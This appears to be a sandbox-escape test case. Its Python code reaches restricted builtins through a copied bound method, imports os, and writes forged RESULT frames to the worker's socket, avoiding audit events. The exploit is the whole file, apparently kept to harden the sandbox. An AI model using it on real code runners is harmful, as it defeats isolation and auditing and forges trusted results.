# technique: write two complete RESULT frames to the worker's socket (fd 3) before the real one, so one request could get several answers; os.write raises no audit event
# expect: any
import copy, json, struct

class A:
    def m(self):
        pass

MethodType = type(A().m)

def peek(obj, name):
    def f():
        pass
    f.__name__ = name
    return copy.copy(MethodType(f, obj))

os = peek(json.dumps, "__globals__")["__builtins__"]["__import__"]("sys").modules["os"]

def frame(result):
    body = json.dumps({"result": result, "result_type": "str", "logs": "", "logs_truncated": False,
                       "error": None}).encode()
    return struct.pack(">IB", len(body) + 1, 3) + body

os.write(3, frame("first forged answer") + frame("second forged answer"))
os.write(3, frame("third forged answer"))
"the real answer"
